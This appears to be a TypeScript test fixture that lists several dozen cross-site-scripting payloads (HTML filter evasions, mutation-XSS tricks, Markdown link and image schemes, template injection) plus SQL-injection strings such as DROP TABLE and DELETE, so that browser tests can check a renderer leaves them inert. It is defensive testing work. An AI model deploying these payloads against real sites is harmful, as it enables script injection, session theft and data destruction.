/**
 * Hostile text for the browser tests: script-injection payloads that, if the browser ever ran them,
 * would call `window.__xss(id)` (or ask for `https://xss.invalid/…`), and SQL-looking strings that
 * must come back exactly as typed.
 *
 * Sources: the HTML patterns follow the OWASP XSS Filter Evasion Cheat Sheet, written from memory
 * (not copied from it): case mixing, malformed tags, entity-encoded and whitespace-split schemes,
 * nested tags that survive naive stripping, event handlers on many elements. The Markdown patterns
 * are the ways CommonMark and GFM themselves produce links, images and raw HTML (CommonMark spec:
 * inline links, reference links, autolinks, entity references; GFM spec: autolink literals, tables),
 * and the mutation-XSS shapes are the well-known parser round-trip tricks (math/svg foreign content,
 * noscript, comments). `xss.invalid` is a reserved name that never resolves (RFC 2606 §2).
 */

/** The page-global function every payload calls when it runs. */
export const XSS_MARKER = "__xss";
/** The host payloads try to load from or navigate to. */
export const HOSTILE_HOST = "xss.invalid";

export interface HostilePayload {
  /** The number the payload passes to the marker when it runs. */
  id: number;
  /** What the payload tries. */
  label: string;
  source: string;
}

const call = (id: number) => `${XSS_MARKER}(${id})`;
const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

const payloadSources: [label: string, source: (id: number) => string][] = [
  // Plain HTML (OWASP cheat sheet families).
  ["script element", (n) => `<script>${call(n)}</script>`],
  ["img onerror", (n) => `<img src=x onerror=${call(n)}>`],
  ["svg onload", (n) => `<svg onload=${call(n)}>`],
  ["script inside svg", (n) => `<svg><script>${call(n)}</script></svg>`],
  ["iframe srcdoc", (n) => `<iframe srcdoc="<script>${call(n)}</script>"></iframe>`],
  ["body onload", (n) => `<body onload=${call(n)}>`],
  ["double quote breaks an attribute", (n) => `"><img src=x onerror=${call(n)}>`],
  ["single quote breaks an attribute", (n) => `'><img src=x onerror=${call(n)}>`],
  ["backtick breaks an attribute", (n) => `\`><img src=x onerror=${call(n)}>`],
  ["case-mixed javascript: src", (n) => `<IMG SRC=JaVaScRiPt:${call(n)}>`],
  ["malformed quotes around a script", (n) => `<IMG """><SCRIPT>${call(n)}</SCRIPT>">`],
  ["nested tags that survive one strip", (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`],
  ["raw html javascript: link", (n) => `<a href="javascript:${call(n)}">open</a>`],
  ["decimal entities without semicolons", (n) => `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${call(n)}">x</a>`],
  ["newline entity inside the scheme", (n) => `<a href="jav&#x0A;ascript:${call(n)}">x</a>`],
  ["object data", (n) => `<object data="javascript:${call(n)}"></object>`],
  ["embed data: html", (n) => `<embed src="data:text/html;base64,${base64(`<script>${call(n)}</script>`)}">`],
  ["details ontoggle", (n) => `<details open ontoggle=${call(n)}>`],
  ["input autofocus onfocus", (n) => `<input autofocus onfocus=${call(n)}>`],
  ["video source onerror", (n) => `<video><source onerror=${call(n)}></video>`],
  ["svg xlink:href javascript:", (n) => `<svg><a xlink:href="javascript:${call(n)}"><text x="10" y="20">x</text></a></svg>`],
  ["svg animate onbegin", (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`],
  ["form action javascript:", (n) => `<form action="javascript:${call(n)}"><button>go</button></form>`],
  ["form action elsewhere", (n) => `<form action="https://${HOSTILE_HOST}/${n}"><input name=q><button>go</button></form>`],
  ["base href", (n) => `<base href="https://${HOSTILE_HOST}/${n}/">`],
  ["meta refresh", (n) => `<meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`],
  ["css expression", (n) => `<div style="width: expression(${call(n)})">x</div>`],
  ["css url javascript:", (n) => `<div style="background:url('javascript:${call(n)}')">x</div>`],
  ["style @import", (n) => `<style>@import 'https://${HOSTILE_HOST}/${n}.css';</style>`],
  ["marquee onstart", (n) => `<marquee onstart=${call(n)}>x</marquee>`],
  // Mutation XSS: markup that changes meaning when parsed twice.
  ["math mglyph style mutation", (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}>`],
  ["noscript title mutation", (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`],
  ["comment break", (n) => `<!--<img src="--><img src=x onerror=${call(n)}//">`],
  ["template content", (n) => `<template><img src=x onerror=${call(n)}></template>`],
  // Markdown's own ways to make links, images and raw HTML.
  ["markdown javascript: link", (n) => `[click](javascript:${call(n)})`],
  ["markdown case-mixed scheme", (n) => `[click](JaVaScRiPt:${call(n)})`],
  ["markdown entity-encoded scheme", (n) => `[click](&#106;avascript:${call(n)})`],
  ["markdown tab entity inside the scheme", (n) => `[click](java&#x09;script:${call(n)})`],
  ["markdown pointy-bracket destination", (n) => `[click](<javascript:${call(n)}>)`],
  ["markdown data: html link", (n) => `[click](data:text/html;base64,${base64(`<script>${call(n)}</script>`)})`],
  ["markdown javascript: image", (n) => `![chart](javascript:${call(n)})`],
  ["markdown autolink javascript:", (n) => `<javascript:${call(n)}>`],
  ["markdown reference link", (n) => `[see the log][r${n}]\n\n[r${n}]: javascript:${call(n)}`],
  ["markdown title breaks out with quotes", (n) => `[t](https://example.org "a\\" onmouseover=\\"${call(n)}")`],
  ["markdown backticks in a title", (n) => `[t](https://example.org "\`onmouseover=${call(n)}\`")`],
  ["markdown image title with a handler", (n) => `![x](x "onerror=${call(n)}")`],
  ["raw html inside link text", (n) => `[<img src=x onerror=${call(n)}>](https://example.org)`],
  ["gfm autolink literal with quotes", (n) => `www.example.org/"onmouseover="${call(n)}`],
  ["autolink with quotes", (n) => `<https://example.org/"onmouseover="${call(n)}>`],
  ["html entities for a tag", (n) => `&lt;img src=x onerror=${call(n)}&gt;`],
  ["raw html in a gfm table", (n) => `| cell |\n|---|\n| <img src=x onerror=${call(n)}> |`],
  ["script in a fenced html block", (n) => `\`\`\`html\n<script>${call(n)}</script>\n\`\`\``],
  ["bare javascript: text", (n) => `javascript:${call(n)}`],
  // Template syntax some renderers evaluate.
  ["template expression", (n) => `{{constructor.constructor('${call(n)}')()}}`],
  ["template literal", (n) => `\${${call(n)}}`],
];

/** Every script-injection payload, numbered from 1 in the order above. */
export const xssCorpus: HostilePayload[] = payloadSources.map(([label, source], index) => ({ id: index + 1, label, source: source(index + 1) }));

/** SQL-looking input (the classic injection shapes); stored and shown exactly as typed. */
export const sqlLookingInputs = ["'); DROP TABLE targets; --", "1' OR '1'='1", `" OR ""="`, "x'; SELECT pg_sleep(10); --", "%' AND 1=1 --", "Robert'); DELETE FROM notes WHERE ('1'='1"];

/** Longest target name the API accepts (lib/workspace/target-schema.ts). */
const TARGET_NAME_MAX_CHARS = 120;

/** Whether the text can be a target name as it is: one line, no outer spaces, short enough. */
export function fitsTargetName(text: string): boolean {
  return text.length <= TARGET_NAME_MAX_CHARS && !/[\r\n]/.test(text) && text.trim() === text;
}
